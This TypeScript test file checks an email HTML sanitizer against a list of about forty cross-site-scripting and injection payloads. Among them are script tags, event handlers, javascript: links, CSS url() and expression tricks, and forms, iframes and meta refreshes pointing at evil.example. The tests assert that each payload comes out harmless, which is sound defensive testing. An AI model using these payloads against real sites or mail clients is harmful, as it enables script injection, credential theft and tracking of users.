/** Hostile HTML: whatever a mail brings, nothing of it runs, loads, submits or reaches out of its place. */
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { safeHtml } from '#channels/email/safe-html.ts';

const shown = (html: string, showRemote = false) =>
  safeHtml(html, {
    showRemote,
    image: (id) => (id === 'a@b' ? 'https://teloring.example/media/1?sig=x' : null),
  });

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://x.example/a.png" onload="alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" target="_self" rel="opener" onclick="x()">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet code="x"></applet>',
  '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:x">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>',
  '<div style="background:url(https://evil.example/y)">x</div>',
  '<div style="background-image:url(\'https://evil.example/y\')">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999">over everything</div>',
  '<div style="color:red;behavior:url(x.htc)">x</div>',
  '<div style="color:\\75rl(https://evil.example)">x</div>',
  '<table background="https://evil.example/b.png"><td background="x">x</td></table>',
  '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="x"></audio><source srcset="x">',
  '<img srcset="https://evil.example/a 1x" src="https://x.example/b">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="file:///etc/passwd"><img src="ftp://x"><img src="/relative"><img src="//evil.example/x">',
  '<xmp><script>alert(1)</script></xmp><noscript><img src=x onerror=alert(1)></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- <script> -->',
  '<body onload=alert(1) background="https://evil.example/x">x</body>',
  '<p id="login" class="app" name="x" data-x="1" contenteditable autofocus onfocus=alert(1)>x</p>',
  '<div title="</div><script>alert(1)</script>">x</div>',
  '<a href="https://x.example/?q=&quot;onmouseover=alert(1)//">x</a>',
  '<isindex action="javascript:x"><keygen><marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<select><option><script>alert(1)</script></select><textarea><script>alert(1)</script></textarea>',
];

/** What a browser would make something of, in well-formed output. */
function expectHarmless(html: string): void {
  for (const [tag, name = '', attributes = ''] of html.matchAll(
    /<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    expect(tag).not.toMatch(
      /^<\/?(script|style|iframe|object|embed|form|input|button|select|textarea|meta|base|link|svg|math|video|audio|template|body|html|title)/i,
    );
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)(?:="([^"]*)")?/gi)) {
      expect(attribute).toMatch(
        /^(align|dir|lang|style|title|valign|href|target|rel|src|alt|width|height|referrerpolicy|color|face|size|border|cellpadding|cellspacing|bgcolor|colspan|rowspan|nowrap|start|type)$/,
      );
      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/);
      if (attribute === 'src')
        expect(value).toMatch(/^(https:\/\/teloring\.example\/|data:image\/(gif|png|jpe?g|webp);base64,)/);
      if (attribute === 'style') expect(value).not.toMatch(/url|expression|position|behavio|import|\\/i);
    }
    expect(name).not.toBe('');
  }
  // Nothing that looks like a tag and isn't one of those.
  expect(html.replaceAll(/<\/?[a-z0-9]+(?:\s+[a-z-]+(?:="[^"]*")?)*\s*\/?>/gi, '')).not.toMatch(/[<>]/);
}

describe('hostile HTML is harmless', () => {
  test.each(hostile)('%s', (html) => {
    expectHarmless(shown(html).html);
    expectHarmless(shown(`<p>before</p>${html}<p>after</p>`).html);
  });

  test('also mixed, cut and nested', () => {
    const piece = fc.constantFrom(
      ...hostile,
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '<a href="',
      '<div style="',
      '&#x',
      '\u0000',
      '</style>',
      '<p>x</p>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), fc.nat(400), (pieces, length) => {
        expectHarmless(shown(pieces.join('').slice(0, length)).html);
        expectHarmless(shown(pieces.join('')).html);
      }),
      { numRuns: 500 },
    );
  });

  test('what is safe once stays as it is', () => {
    for (const html of hostile) expect(shown(shown(html).html).html).toBe(shown(html).html);
  });
});

test('links open elsewhere and tell nothing of where they were', () => {
  expect(shown('<a href="https://x.example" target="_top">x</a>').html).toBe(
    '<a href="https://x.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
});

test('pictures of other servers are counted and blank until they are wanted', () => {
  const html =
    '<img src="https://t.example/open.gif" alt="logo" width="100"><img src="http://t.example/2.png">';
  const blank = shown(html);
  expect(blank.remoteImages).toBe(2);
  expect(blank.html).not.toContain('t.example');
  expect(blank.html).toContain('alt="logo"');
  const loaded = shown(html, true);
  expect(loaded.html).toContain('src="https://t.example/open.gif"');
  expect(loaded.html).toContain('referrerpolicy="no-referrer"');
});

test('attached pictures are ours', () => {
  const { html, remoteImages } = shown('<img src="cid:a@b"><img src="CID:a%40b"><img src="cid:unknown">');
  expect([html.match(/teloring\.example\/media\/1/g)?.length, remoteImages]).toEqual([2, 0]);
  expect(html).toContain('data:image/gif');
});

test('what people write looks as they wrote it', () => {
  const html =
    '<div style="color:#333;font-size:14px"><b>Hi</b> <i>there</i><ul><li>1</li></ul><table border="1"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table></div>';
  expect(shown(html).html).toBe(html);
});
